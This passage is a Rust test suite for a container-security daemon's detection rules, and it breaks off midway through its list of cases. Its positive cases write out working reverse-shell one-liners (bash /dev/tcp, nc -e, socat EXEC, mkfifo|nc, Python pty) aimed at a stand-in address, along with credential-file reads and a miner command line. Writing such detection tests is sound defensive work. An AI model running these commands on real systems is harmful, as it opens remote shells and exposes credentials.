//! The built-in rules (`models/rules/habitd_rules.yaml`): each behaviour fires exactly the
//! rules it should, every rule has a positive and a negative case, tags (MITRE, scope, the
//! fusion tags) and priorities are where they belong, and operators can extend the rules.
//!
//! That the rules read only fields the daemon supplies is tested in the daemon, which knows
//! its fields.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::BTreeSet;
use std::net::IpAddr;

use super::*;

// Rule names, as in the file.
const SHELL: &str = "Shell spawned in container";
const INTERPRETER: &str = "Interpreter spawned in container";
const REVERSE_SHELL: &str = "Reverse shell or netcat with exec";
const TEMP_EXEC: &str = "Execution from temporary directory";
const DROP_EXEC: &str = "Drop and execute new binary in container";
const MEMFD_EXEC: &str = "Fileless execution from memfd";
const MEMFD_CREATE: &str = "Memfd created in container";
const SENSITIVE_READ: &str = "Read sensitive file";
const WRITE_ETC: &str = "Write below etc or root";
const WRITE_BIN: &str = "Write below binary directory";
const SETUID: &str = "Setuid or setgid bit set";
const MODULE: &str = "Kernel module loaded";
const PTRACE: &str = "Ptrace attach or code injection";
const MOUNT: &str = "Mount in container";
const RELEASE_AGENT: &str = "Container escape via cgroup release_agent";
const NAMESPACE: &str = "Namespace change in container";
const PACKET: &str = "Packet socket created";
const MINER_PORT: &str = "Outbound connection to crypto-mining pool port";
const MINER: &str = "Crypto miner launched";
const K8S_API: &str = "Contact Kubernetes API server from container";
const METADATA: &str = "Contact cloud metadata service from container";
const CRITICAL_CHANGE: &str = "Critical file changed";
const LOG_REMOVAL: &str = "Log file deleted or truncated";
const SENSITIVE_LINK: &str = "Link to sensitive file";

fn rules() -> RuleSet {
    let (set, report) = default_rules();
    assert!(report.problems().is_empty(), "{report}");
    set
}

// ---- events, shaped as the daemon's rule events answer them ----

fn base(container: bool) -> MapEvent {
    let e = MapEvent::new()
        .with("evt.dir", "<")
        .with("proc.pid", 4242)
        .with("proc.ppid", 4200)
        .with("user.uid", 0)
        .with("user.name", "root");
    if container {
        e.with("container.id", "3ad7c1e2b9f0")
            .with("container.name", "shop-web")
            .with("container.image.repository", "docker.io/library/nginx")
            .with("container.image.tag", "1.25")
            .with("k8s.ns.name", "shop")
            .with("k8s.pod.name", "web-7d9f8c6b5-x2x4q")
    } else {
        e.with("container.id", "host")
    }
}

fn host() -> MapEvent {
    base(false)
}

fn ctr() -> MapEvent {
    base(true)
}

/// A process `name` (comm) running `exepath`, with `argv`, child of `pname`.
fn proc(e: MapEvent, name: &str, exepath: &str, argv: &[&str], pname: &str) -> MapEvent {
    let args = argv.get(1..).unwrap_or_default().join(" ");
    let cmdline = if args.is_empty() {
        name.to_owned()
    } else {
        format!("{name} {args}")
    };
    e.with("proc.name", name)
        .with("proc.exe", argv.first().copied().unwrap_or(exepath))
        .with("proc.exepath", exepath)
        .with("proc.args", args)
        .with("proc.cmdline", cmdline)
        .with("proc.pname", pname)
}

/// An execve of `exepath` (not from the container's upper layer, not from a memfd).
fn exec(e: MapEvent, name: &str, exepath: &str, argv: &[&str], pname: &str) -> MapEvent {
    proc(e, name, exepath, argv, pname)
        .with("evt.type", "execve")
        .with("proc.is_exe_upper_layer", false)
        .with("proc.is_exe_from_memfd", false)
}

/// An openat of `path`; `access` is `r`, `w` or `rw`.
fn open(e: MapEvent, name: &str, exepath: &str, path: &str, access: &str) -> MapEvent {
    let (dir, file) = match path.rfind('/') {
        Some(0) => ("/", &path[1..]),
        Some(i) => (&path[..i], &path[i + 1..]),
        None => (".", path),
    };
    let flags: i64 = match access {
        "r" => 0,
        "w" => 0o1 | 0o100 | 0o1000,
        _ => 0o2,
    };
    proc(e, name, exepath, &[exepath], "bash")
        .with("evt.type", "openat")
        .with("evt.arg.flags", flags)
        .with("evt.is_open_read", access.contains('r'))
        .with("evt.is_open_write", access.contains('w'))
        .with("fd.typechar", "f")
        .with("fd.name", path)
        .with("fd.directory", dir)
        .with("fd.filename", file)
}

/// A TCP connect to `ip:port`.
fn connect(e: MapEvent, name: &str, exepath: &str, ip: &str, port: i64) -> MapEvent {
    let sip: IpAddr = ip.parse().unwrap();
    let name_field = if sip.is_ipv6() {
        format!("[{sip}]:{port}")
    } else {
        format!("{sip}:{port}")
    };
    proc(e, name, exepath, &[exepath], "bash")
        .with("evt.type", "connect")
        .with("fd.typechar", if sip.is_ipv6() { "6" } else { "4" })
        .with("fd.l4proto", "tcp")
        .with("fd.sip", sip)
        .with("fd.sport", port)
        .with("fd.rip", sip)
        .with("fd.rport", port)
        .with("fd.name", name_field)
}

/// A privileged event (`ptrace`, `mount`, ...) by process `name`, with `evt.arg`s.
fn privileged(e: MapEvent, evt_type: &str, name: &str, args: &[(&str, &str)]) -> MapEvent {
    let exepath = format!("/usr/bin/{name}");
    let mut e = proc(e, name, &exepath, &[&exepath], "bash").with("evt.type", evt_type);
    for (k, v) in args {
        e = e.with(&format!("evt.arg.{k}"), *v);
    }
    e
}

fn chmod(e: MapEvent, name: &str, path: &str, mode: &str) -> MapEvent {
    let exepath = format!("/usr/bin/{name}");
    proc(e, name, &exepath, &[name, path], "bash")
        .with("evt.type", "chmod")
        .with("evt.arg.mode", mode)
        .with("fd.typechar", "f")
        .with("fd.name", path)
}

/// A file change (`evt.type` a rename, unlink, link, … syscall) by `name`; `fd.name` is the file
/// changed, `args` the other `evt.arg`s.
fn change(e: MapEvent, name: &str, evt_type: &str, path: &str, args: &[(&str, &str)]) -> MapEvent {
    let exepath = format!("/usr/bin/{name}");
    let mut e = proc(e, name, &exepath, &[name, path], "bash")
        .with("evt.type", evt_type)
        .with("fd.typechar", "f")
        .with("fd.name", path);
    for (k, v) in args {
        e = e.with(&format!("evt.arg.{k}"), *v);
    }
    e
}

/// One behaviour and the rules it must fire (exactly). `rule` is the rule under test:
/// a positive case fires it, a negative one (a benign near miss) does not.
struct Case {
    rule: &'static str,
    positive: bool,
    what: &'static str,
    event: MapEvent,
    fires: &'static [&'static str],
}

fn yes(
    rule: &'static str,
    what: &'static str,
    event: MapEvent,
    fires: &'static [&'static str],
) -> Case {
    Case {
        rule,
        positive: true,
        what,
        event,
        fires,
    }
}

fn no(
    rule: &'static str,
    what: &'static str,
    event: MapEvent,
    fires: &'static [&'static str],
) -> Case {
    Case {
        rule,
        positive: false,
        what,
        event,
        fires,
    }
}

fn cases() -> Vec<Case> {
    vec![
        // ---- file integrity ----
        yes(
            CRITICAL_CHANGE,
            "a file renamed over /etc/passwd",
            change(
                ctr(),
                "mv",
                "rename",
                "/etc/passwd",
                &[("oldpath", "/tmp/passwd"), ("newpath", "/etc/passwd")],
            ),
            &[CRITICAL_CHANGE],
        ),
        yes(
            CRITICAL_CHANGE,
            "/usr/bin/sshd renamed away",
            change(
                ctr(),
                "mv",
                "renameat2",
                "/tmp/sshd",
                &[("oldpath", "/usr/bin/sshd"), ("newpath", "/tmp/sshd")],
            ),
            &[CRITICAL_CHANGE],
        ),
        yes(
            CRITICAL_CHANGE,
            "a crontab deleted",
            change(
                host(),
                "rm",
                "unlinkat",
                "/var/spool/cron/crontabs/root",
                &[],
            ),
            &[CRITICAL_CHANGE],
        ),
        yes(
            CRITICAL_CHANGE,
            "a web page timestomped",
            change(ctr(), "touch", "utimensat", "/var/www/html/index.php", &[]),
            &[CRITICAL_CHANGE],
        ),
        yes(
            CRITICAL_CHANGE,
            "authorized_keys re-owned",
            change(
                ctr(),
                "chown",
                "fchownat",
                "/root/.ssh/authorized_keys",
                &[],
            ),
            &[CRITICAL_CHANGE],
        ),
        no(
            CRITICAL_CHANGE,
            "dpkg replacing a binary",
            change(
                host(),
                "dpkg",
                "rename",
                "/usr/bin/curl",
                &[
                    ("oldpath", "/usr/bin/curl.dpkg-new"),
                    ("newpath", "/usr/bin/curl"),
                ],
            ),
            &[],
        ),
        no(
            CRITICAL_CHANGE,
            "a temp file renamed in /var/lib",
            change(
                ctr(),
                "redis-server",
                "rename",
                "/var/lib/redis/dump.rdb",
                &[
                    ("oldpath", "/var/lib/redis/temp-1.rdb"),
                    ("newpath", "/var/lib/redis/dump.rdb"),
                ],
            ),
            &[],
        ),
        yes(
            LOG_REMOVAL,
            "a shell deleting the auth log",
            change(host(), "rm", "unlinkat", "/var/log/auth.log", &[]),
            &[LOG_REMOVAL],
        ),
        yes(
            LOG_REMOVAL,
            "a log truncated",
            change(
                ctr(),
                "truncate",
                "truncate",
                "/var/log/nginx/access.log",
                &[],
            ),
            &[LOG_REMOVAL],
        ),
        no(
            LOG_REMOVAL,
            "a rotation script's shell expiring old generations",
            change(ctr(), "sh", "unlink", "/var/log/nginx/access.log.1", &[]),
            &[],
        ),
        no(
            LOG_REMOVAL,
            "a rotation script's rm expiring a gzipped generation",
            change(
                ctr(),
                "rm",
                "unlinkat",
                "/var/log/nginx/error.log.12.gz",
                &[],
            ),
            &[],
        ),
        yes(
            LOG_REMOVAL,
            "a shell deleting a live log next to its generations",
            change(ctr(), "rm", "unlinkat", "/var/log/nginx/access.log", &[]),
            &[LOG_REMOVAL],
        ),
        yes(
            LOG_REMOVAL,
            "an old generation truncated (not what rotation does)",
            change(
                ctr(),
                "truncate",
                "truncate",
                "/var/log/nginx/access.log.1",
                &[],
            ),
            &[LOG_REMOVAL],
        ),
        no(
            LOG_REMOVAL,
            "logrotate expiring an old generation",
            change(host(), "logrotate", "unlink", "/var/log/syslog.7.gz", &[]),
            &[],
        ),
        no(
            LOG_REMOVAL,
            "a log renamed by rotation",
            change(
                ctr(),
                "nginx",
                "rename",
                "/var/log/nginx/access.log.1",
                &[("oldpath", "/var/log/nginx/access.log")],
            ),
            &[],
        ),
        yes(
            SENSITIVE_LINK,
            "a hard link to /etc/shadow",
            change(
                ctr(),
                "ln",
                "linkat",
                "/tmp/sh",
                &[("oldpath", "/etc/shadow"), ("newpath", "/tmp/sh")],
            ),
            &[SENSITIVE_LINK],
        ),
        yes(
            SENSITIVE_LINK,
            "a symlink to root's SSH directory",
            change(
                ctr(),
                "ln",
                "symlinkat",
                "/var/www/html/k",
                &[("target", "/root/.ssh"), ("linkpath", "/var/www/html/k")],
            ),
            &[SENSITIVE_LINK, CRITICAL_CHANGE],
        ),
        no(
            SENSITIVE_LINK,
            "a symlink to a shared library",
            change(
                ctr(),
                "ln",
                "symlink",
                "/opt/app/libssl.so",
                &[
                    ("target", "/usr/lib/libssl.so.3"),
                    ("linkpath", "/opt/app/libssl.so"),
                ],
            ),
            &[],
        ),
        // ---- shell in container ----
        yes(
            SHELL,
            "bash in a container",
            exec(ctr(), "bash", "/usr/bin/bash", &["bash"], "runc:[2:INIT]"),
            &[SHELL],
        ),
        yes(
            SHELL,
            "busybox sh -c in a container",
            exec(
                ctr(),
                "busybox",
                "/bin/busybox",
                &["busybox", "sh", "-c", "id"],
                "nginx",
            ),
            &[SHELL],
        ),
        yes(
            SHELL,
            "sh via the busybox symlink",
            exec(ctr(), "sh", "/bin/busybox", &["sh", "-c", "id"], "nginx"),
            &[SHELL],
        ),
        no(
            SHELL,
            "a login shell on the host",
            exec(host(), "bash", "/usr/bin/bash", &["-bash"], "sshd"),
            &[],
        ),
        no(
            SHELL,
            "busybox sha256sum in a container",
            exec(
                ctr(),
                "busybox",
                "/bin/busybox",
                &["busybox", "sha256sum", "/etc/hosts"],
                "nginx",
            ),
            &[],
        ),
        // ---- interpreter in container ----
        yes(
            INTERPRETER,
            "python3.12 in a container",
            exec(
                ctr(),
                "python3.12",
                "/usr/bin/python3.12",
                &["python3", "-c", "print(1)"],
                "sh",
            ),
            &[INTERPRETER],
        ),
        yes(
            INTERPRETER,
            "node in a container",
            exec(
                ctr(),
                "node",
                "/usr/local/bin/node",
                &["node", "-e", "1"],
                "sh",
            ),
            &[INTERPRETER],
        ),
        no(
            INTERPRETER,
            "python3 on the host",
            exec(
                host(),
                "python3",
                "/usr/bin/python3.12",
                &["python3", "/usr/bin/unattended-upgrade"],
                "systemd",
            ),
            &[],
        ),
        no(
            INTERPRETER,
            "php-fpm (a server, not a php one-liner) in a container",
            exec(
                ctr(),
                "php-fpm8.2",
                "/usr/sbin/php-fpm8.2",
                &["php-fpm8.2", "-F"],
                "runc:[2:INIT]",
            ),
            &[],
        ),
        // ---- reverse shell ----
        yes(
            REVERSE_SHELL,
            "bash /dev/tcp reverse shell on the host",
            exec(
                host(),
                "bash",
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"],
                "php-fpm8.2",
            ),
            &[REVERSE_SHELL],
        ),
        yes(
            REVERSE_SHELL,
            "the same in a container is also a shell in a container",
            exec(
                ctr(),
                "bash",
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"],
                "nginx",
            ),
            &[SHELL, REVERSE_SHELL],
        ),
        yes(
            REVERSE_SHELL,
            "nc -e in a container",
            exec(
                ctr(),
                "nc",
                "/usr/bin/nc.traditional",
                &["nc", "-e", "/bin/sh", "198.51.100.7", "4444"],
                "sh",
            ),
            &[REVERSE_SHELL],
        ),
        yes(
            REVERSE_SHELL,
            "ncat --sh-exec on the host",
            exec(
                host(),
                "ncat",
                "/usr/bin/ncat",
                &["ncat", "198.51.100.7", "4444", "--sh-exec", "/bin/bash"],
                "bash",
            ),
            &[REVERSE_SHELL],
        ),
        yes(
            REVERSE_SHELL,
            "socat EXEC: on the host",
            exec(
                host(),
                "socat",
                "/usr/bin/socat",
                &[
                    "socat",
                    "TCP:198.51.100.7:4444",
                    "EXEC:/bin/bash,pty,stderr",
                ],
                "bash",
            ),
            &[REVERSE_SHELL],
        ),
        yes(
            REVERSE_SHELL,
            "mkfifo | nc reverse shell in a container",
            exec(
                ctr(),
                "sh",
                "/bin/dash",
                &[
                    "sh",
                    "-c",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
                ],
                "nginx",
            ),
            &[SHELL, REVERSE_SHELL],
        ),
        yes(
            REVERSE_SHELL,
            "python pty reverse shell in a container",
            exec(
                ctr(),
                "python3",
                "/usr/bin/python3.12",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));\
                     [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
                ],
                "sh",
            ),
            &[INTERPRETER, REVERSE_SHELL],
        ),
        no(
            REVERSE_SHELL,
            "nc -z port probe (a health check) in a container",
            exec(
                ctr(),
                "nc",
                "/usr/bin/nc.openbsd",
                &["nc", "-z", "-w", "2", "db", "5432"],
                "sh",
            ),
            &[],
        ),
        no(
            REVERSE_SHELL,
            "socat as a TCP forwarder on the host",
            exec(
                host(),
                "socat",
                "/usr/bin/socat",
                &["socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.5:80"],
                "systemd",
            ),
            &[],
        ),
        no(
            REVERSE_SHELL,
            "python serving HTTP in a container",
            exec(
                ctr(),
                "python3",
                "/usr/bin/python3.12",
                &["python3", "-m", "http.server", "8000"],
                "sh",
            ),
            &[INTERPRETER],
        ),
        // ---- execution from a temporary directory ----
        yes(
            TEMP_EXEC,
            "a binary in /tmp on the host",
            exec(host(), "x", "/tmp/x", &["./x"], "bash"),
            &[TEMP_EXEC],
        ),
        yes(
            TEMP_EXEC,
            "a binary in /dev/shm on the host",
            exec(
                host(),
                "kdev",
                "/dev/shm/.k/kdev",
                &["/dev/shm/.k/kdev"],
                "bash",
            ),
            &[TEMP_EXEC],
        ),
        yes(
            TEMP_EXEC,
            "a script in /var/tmp run by sh on the host",
            exec(
                host(),
                "sh",
                "/usr/bin/dash",
                &["sh", "/var/tmp/install.sh"],
                "bash",
            ),
            &[TEMP_EXEC],
        ),
        no(
            TEMP_EXEC,
            "cat of a file in /tmp on the host",
            exec(
                host(),
                "cat",
                "/usr/bin/cat",
                &["cat", "/tmp/notes.txt"],
                "bash",
            ),
            &[],
        ),
        no(
            TEMP_EXEC,
            "a binary in /tmpdata (not /tmp) on the host",
            exec(host(), "tool", "/tmpdata/bin/tool", &["tool"], "bash"),
            &[],
        ),
        // ---- drop and execute ----
        yes(
            DROP_EXEC,
            "a binary the container wrote, executed",
            exec(
                ctr(),
                "kubectl",
                "/usr/local/bin/kubectl",
                &["kubectl", "get", "secrets"],
                "sh",
            )
            .with("proc.is_exe_upper_layer", true),
            &[DROP_EXEC],
        ),
        no(
            DROP_EXEC,
            "a binary of the image",
            exec(
                ctr(),
                "nginx",
                "/usr/sbin/nginx",
                &["nginx"],
                "runc:[2:INIT]",
            ),
            &[],
        ),
        // ---- fileless execution ----
        yes(
            MEMFD_EXEC,
            "exec of a memfd in a container",
            exec(
                ctr(),
                "3",
                "/memfd:x (deleted)",
                &["[kworker/0:1]"],
                "python3",
            )
            .with("proc.is_exe_from_memfd", true),
            &[MEMFD_EXEC],
        ),
        yes(
            MEMFD_EXEC,
            "exec of a memfd on the host",
            exec(host(), "3", "/memfd: (deleted)", &["sshd"], "perl")
                .with("proc.is_exe_from_memfd", true),
            &[MEMFD_EXEC],
        ),
        no(
            MEMFD_EXEC,
            "runc re-executing its sealed copy",
            exec(
                host(),
                "runc",
                "/memfd:runc_cloned:/proc/self/exe (deleted)",
                &["runc", "init"],
                "runc",
            )
            .with("proc.is_exe_from_memfd", true),
            &[],
        ),
        no(
            MEMFD_EXEC,
            "a plain exec",
            exec(host(), "ls", "/usr/bin/ls", &["ls"], "bash"),
            &[],
        ),
        // ---- memfd_create ----
        yes(
            MEMFD_CREATE,
            "memfd_create in a container",
            privileged(ctr(), "memfd_create", "python3", &[("name", "")]),
            &[MEMFD_CREATE],
        ),
        no(
            MEMFD_CREATE,
            "memfd_create by systemd on the host",
            privileged(host(), "memfd_create", "systemd", &[("name", "data-fd")]),
            &[],
        ),
        no(
            MEMFD_CREATE,
            "runc's cloned binary in a container",
            privileged(
                ctr(),
                "memfd_create",
                "runc:[2:INIT]",
                &[("name", "runc_cloned:/proc/self/exe")],
            ),
            &[],
        ),
        // ---- sensitive reads ----
        yes(
            SENSITIVE_READ,
            "cat /etc/shadow in a container",
            open(ctr(), "cat", "/bin/cat", "/etc/shadow", "r"),
            &[SENSITIVE_READ],
        ),
        yes(
            SENSITIVE_READ,
            "python reading root's private key on the host",
            open(
                host(),
                "python3",
                "/usr/bin/python3.12",
                "/root/.ssh/id_rsa",
                "r",
            ),
            &[SENSITIVE_READ],
        ),
        yes(
            SENSITIVE_READ,
            "a user's private key read by tar",
            open(
                host(),
                "tar",
                "/usr/bin/tar",
                "/home/alice/.ssh/id_ed25519",
                "r",
            ),
            &[SENSITIVE_READ],
        ),
        yes(
            SENSITIVE_READ,
            "sudoers.d read by cat",
            open(
                host(),
                "cat",
                "/usr/bin/cat",
                "/etc/sudoers.d/90-admins",
                "r",
            ),
            &[SENSITIVE_READ],
        ),
        yes(
            SENSITIVE_READ,
            "gshadow read in a container",
            open(ctr(), "cat", "/bin/cat", "/etc/gshadow", "r"),
            &[SENSITIVE_READ],
        ),
        yes(
            SENSITIVE_READ,
            "Kubernetes CA key read by cp",
            open(
                host(),
                "cp",
                "/usr/bin/cp",
                "/etc/kubernetes/pki/ca.key",
                "r",
            ),
            &[SENSITIVE_READ],
        ),
        yes(
            SENSITIVE_READ,
            "service-account token read by curl",
            open(
                ctr(),
                "curl",
                "/usr/bin/curl",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                "r",
            ),
            &[SENSITIVE_READ],
        ),
        yes(
            SENSITIVE_READ,
            "service-account token through its resolved symlink",
            open(
                ctr(),
                "cat",
                "/bin/cat",
                "/run/secrets/kubernetes.io/serviceaccount/..2024_05_01_10_00_00.123456789/token",
                "r",
            ),
            &[SENSITIVE_READ],
        ),
        no(
            SENSITIVE_READ,
            "nginx reading its configuration",
            open(
                ctr(),
                "nginx",
                "/usr/sbin/nginx",
                "/etc/nginx/nginx.conf",
                "r",
            ),
            &[],
        ),
        no(
            SENSITIVE_READ,
            "sshd reading /etc/shadow",
            open(host(), "sshd", "/usr/sbin/sshd", "/etc/shadow", "r"),
            &[],
        ),
        no(
            SENSITIVE_READ,
            "sudo reading /etc/sudoers",
            open(host(), "sudo", "/usr/bin/sudo", "/etc/sudoers", "r"),
            &[],
        ),
        no(
            SENSITIVE_READ,
            "ssh reading its user's key",
            open(
                host(),
                "ssh",
                "/usr/bin/ssh",
                "/home/alice/.ssh/id_ed25519",
                "r",
            ),
            &[],
        ),
        no(
            SENSITIVE_READ,
            "a public key",
            open(
                host(),
                "cat",
                "/usr/bin/cat",
                "/home/alice/.ssh/id_ed25519.pub",
                "r",
            ),
            &[],
        ),
        no(
            SENSITIVE_READ,
            "kube-apiserver reading its key",
            open(
                ctr(),
                "kube-apiserver",
                "/usr/local/bin/kube-apiserver",
                "/etc/kubernetes/pki/apiserver.key",
                "r",
            ),
            &[],
        ),
        no(
            SENSITIVE_READ,
            "the service-account CA certificate",
            open(
                ctr(),
                "curl",
                "/usr/bin/curl",
                "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
                "r",
            ),
            &[],
        ),
        no(
            SENSITIVE_READ,
            "/etc/passwd (world-readable)",
            open(ctr(), "id", "/usr/bin/id", "/etc/passwd", "r"),
            &[],
        ),
        // ---- writes below /etc or /root ----
        yes(
            WRITE_ETC,
            "a cron file written in a container",
            open(ctr(), "sh", "/bin/dash", "/etc/cron.d/backdoor", "w"),
            &[WRITE_ETC],
        ),
        yes(
            WRITE_ETC,
            "root's authorized_keys written on the host",
            open(
                host(),
                "bash",
                "/usr/bin/bash",
                "/root/.ssh/authorized_keys",
                "w",
            ),
            &[WRITE_ETC],
        ),
        yes(
            WRITE_ETC,
            "/etc/ld.so.preload opened read-write",
            open(
                ctr(),
                "python3",
                "/usr/bin/python3",
                "/etc/ld.so.preload",
                "rw",
            ),
            &[WRITE_ETC],
        ),
        no(
            WRITE_ETC,
            "nginx writing its log",
            open(
                ctr(),
                "nginx",
                "/usr/sbin/nginx",
                "/var/log/nginx/access.log",
                "w",
            ),
            &[],
        ),
        no(
            WRITE_ETC,
            "dpkg installing a configuration file",
            open(host(), "dpkg", "/usr/bin/dpkg", "/etc/default/nginx", "w"),
            &[],
        ),
        no(
            WRITE_ETC,
            "bash saving root's history",
            open(host(), "bash", "/usr/bin/bash", "/root/.bash_history", "w"),
            &[],
        ),
        no(
            WRITE_ETC,
            "pip caching below /root/.cache",
            open(
                ctr(),
                "pip",
                "/usr/bin/python3",
                "/root/.cache/pip/http/x",
                "w",
            ),
            &[],
        ),
        // ---- writes below binary directories ----
        yes(
            WRITE_BIN,
            "curl replacing /usr/bin/ls in a container",
            open(ctr(), "curl", "/usr/bin/curl", "/usr/bin/ls", "w"),
            &[WRITE_BIN],
        ),
        yes(
            WRITE_BIN,
            "a library replaced on the host",
            open(
                host(),
                "cp",
                "/usr/bin/cp",
                "/lib/x86_64-linux-gnu/libpam.so.0",
                "w",
            ),
            &[WRITE_BIN],
        ),
        no(
            WRITE_BIN,
            "dpkg installing a binary",
            open(host(), "dpkg", "/usr/bin/dpkg", "/usr/bin/htop", "w"),
            &[],
        ),
        no(
            WRITE_BIN,
            "python caching bytecode",
            open(
                ctr(),
                "python3.12",
                "/usr/bin/python3.12",
                "/usr/lib/python3.12/__pycache__/ast.cpython-312.pyc",
                "w",
            ),
            &[],
        ),
        no(
            WRITE_BIN,
            "reading /usr/bin/ls",
            open(ctr(), "sh", "/bin/dash", "/usr/bin/ls", "r"),
            &[],
        ),
        no(
            WRITE_BIN,
            "writing below /usrdata (not /usr)",
            open(ctr(), "app", "/app/app", "/usrdata/x", "w"),
            &[],
        ),
        // ---- setuid/setgid ----
        yes(
            SETUID,
            "chmod 4755 on the host",
            chmod(host(), "chmod", "/tmp/rootsh", "4755"),
            &[SETUID],
        ),
        yes(
            SETUID,
            "chmod 2755 in a container",
            chmod(ctr(), "chmod", "/usr/local/bin/x", "2755"),
            &[SETUID],
        ),
        no(
            SETUID,
            "chmod 755",
            chmod(host(), "chmod", "/usr/local/bin/x", "755"),
            &[],
        ),
        no(
            SETUID,
            "chmod 1777 (sticky bit only)",
            chmod(host(), "chmod", "/srv/shared", "1777"),
            &[],
        ),
        no(
            SETUID,
            "dpkg installing sudo",
            chmod(host(), "dpkg", "/usr/bin/sudo", "4755"),
            &[],
        ),
        // ---- kernel modules ----
        yes(
            MODULE,
            "insmod on the host",
            privileged(host(), "finit_module", "insmod", &[]),
            &[MODULE],
        ),
        yes(
            MODULE,
            "init_module from a container",
            privileged(ctr(), "init_module", "exploit", &[]),
            &[MODULE],
        ),
        yes(
            MODULE,
            "modprobe run by a user",
            proc(
                host(),
                "modprobe",
                "/usr/sbin/modprobe",
                &["modprobe", "-q", "--", "evil"],
                "bash",
            )
            .with("evt.type", "finit_module"),
            &[MODULE],
        ),
        no(
            MODULE,
            "the kernel autoloading a module",
            proc(
                host(),
                "modprobe",
                "/usr/sbin/modprobe",
                &["/sbin/modprobe", "-q", "--", "netdev-veth"],
                "kworker/u16:1",
            )
            .with("evt.type", "finit_module"),
            &[],
        ),
        // ---- ptrace ----
        yes(
            PTRACE,
            "PTRACE_ATTACH in a container",
            privileged(ctr(), "ptrace", "gdb", &[("request", "PTRACE_ATTACH")]),
            &[PTRACE],
        ),
        yes(
            PTRACE,
            "PTRACE_POKETEXT on the host",
            privileged(
                host(),
                "ptrace",
                "inject",
                &[("request", "PTRACE_POKETEXT")],
            ),
            &[PTRACE],
        ),
        no(
            PTRACE,
            "PTRACE_TRACEME",
            privileged(host(), "ptrace", "strace", &[("request", "PTRACE_TRACEME")]),
            &[],
        ),
        no(
            PTRACE,
            "PTRACE_PEEKDATA",
            privileged(host(), "ptrace", "gdb", &[("request", "PTRACE_PEEKDATA")]),
            &[],
        ),
        // ---- mount ----
        yes(
            MOUNT,
            "mount of the host disk in a container",
            privileged(ctr(), "mount", "mount", &[("dir", "/mnt")]),
            &[MOUNT],
        ),
        no(
            MOUNT,
            "runc setting the container up",
            privileged(ctr(), "mount", "runc:[2:INIT]", &[("dir", "/proc")]),
            &[],
        ),
        no(
            MOUNT,
            "mount on the host",
            privileged(host(), "mount", "mount", &[("dir", "/mnt/backup")]),
            &[],
        ),
        // ---- release_agent ----
        yes(
            RELEASE_AGENT,
            "release_agent written in a container",
            open(ctr(), "sh", "/bin/dash", "/tmp/cgrp/release_agent", "w"),
            &[RELEASE_AGENT],
        ),
        yes(
            RELEASE_AGENT,
            "notify_on_release written in a container",
            open(
                ctr(),
                "sh",
                "/bin/dash",
                "/sys/fs/cgroup/memory/x/notify_on_release",
                "w",
            ),
            &[RELEASE_AGENT],
        ),
        no(
            RELEASE_AGENT,
            "release_agent read in a container",
            open(
                ctr(),
                "cat",
                "/bin/cat",
                "/sys/fs/cgroup/memory/release_agent",
                "r",
            ),
            &[],
        ),
        no(
            RELEASE_AGENT,
            "systemd on the host",
            open(
                host(),
                "systemd",
                "/usr/lib/systemd/systemd",
                "/sys/fs/cgroup/systemd/release_agent",
                "w",
            ),
            &[],
        ),
        // ---- namespaces ----
        yes(
            NAMESPACE,
            "unshare in a container",
            privileged(ctr(), "unshare", "unshare", &[]),
            &[NAMESPACE],
        ),
        yes(
            NAMESPACE,
            "nsenter in a container",
            privileged(ctr(), "setns", "nsenter", &[]),
            &[NAMESPACE],
        ),
        yes(
            NAMESPACE,
            "nsenter opening pid 1's namespace (denied before any setns)",
            open(ctr(), "nsenter", "/bin/nsenter", "/proc/1/ns/ipc", "r").with("evt.res", "EACCES"),
            &[NAMESPACE],
        ),
        no(
            NAMESPACE,
            "a program reading its own namespace",
            open(ctr(), "app", "/usr/bin/app", "/proc/self/ns/net", "r"),
            &[],
        ),
        no(
            NAMESPACE,
            "runc joining the container's namespaces",
            privileged(ctr(), "setns", "runc:[1:CHILD]", &[]),
            &[],
        ),
        no(
            NAMESPACE,
            "systemd sandboxing a service on the host",
            privileged(host(), "unshare", "systemd", &[]),
            &[],
        ),
        // ---- packet socket ----
        yes(
            PACKET,
            "tcpdump in a container",
            privileged(ctr(), "socket", "tcpdump", &[("domain", "AF_PACKET")]),
            &[PACKET],
        ),
        yes(
            PACKET,
            "scapy on the host",
            privileged(host(), "socket", "python3", &[("domain", "AF_PACKET")]),
            &[PACKET],
        ),
        no(
            PACKET,
            "dhclient on the host",
            privileged(host(), "socket", "dhclient", &[("domain", "AF_PACKET")]),
            &[],
        ),
        no(
            PACKET,
            "an AF_INET socket",
            privileged(ctr(), "socket", "curl", &[("domain", "AF_INET")]),
            &[],
        ),
        // ---- mining ----
        yes(
            MINER_PORT,
            "a pool port on a public address from a container",
            connect(ctr(), "kthreadd", "/tmp/.x/kthreadd", "198.51.100.7", 3333),
            &[MINER_PORT],
        ),
        yes(
            MINER_PORT,
            "a pool port on a public IPv6 address from the host",
            connect(host(), "x", "/usr/local/bin/x", "2001:db8::7", 14444),
            &[MINER_PORT],
        ),
        no(
            MINER_PORT,
            "HTTPS to a public address",
            connect(ctr(), "curl", "/usr/bin/curl", "93.184.216.34", 443),
            &[],
        ),
        no(
            MINER_PORT,
            "an internal service on 8888",
            connect(ctr(), "python3", "/usr/bin/python3", "10.0.3.4", 8888),
            &[],
        ),
        yes(
            MINER,
            "xmrig in a container",
            exec(
                ctr(),
                "xmrig",
                "/opt/xmrig/xmrig",
                &["xmrig", "-o", "pool.example:3333"],
                "sh",
            ),
            &[MINER],
        ),
        yes(
            MINER,
            "a renamed miner with a stratum URL on the host",
            exec(
                host(),
                "kworkerds",
                "/var/lib/.k/kworkerds",
                &[
                    "kworkerds",
                    "-o",
                    "stratum+tcp://pool.example:3333",
                    "-u",
                    "x",
                ],
                "bash",
            ),
            &[MINER],
        ),
        no(
            MINER,
            "looking a miner's domain up",
            exec(host(), "dig", "/usr/bin/dig", &["dig", "xmrig.com"], "bash"),
            &[],
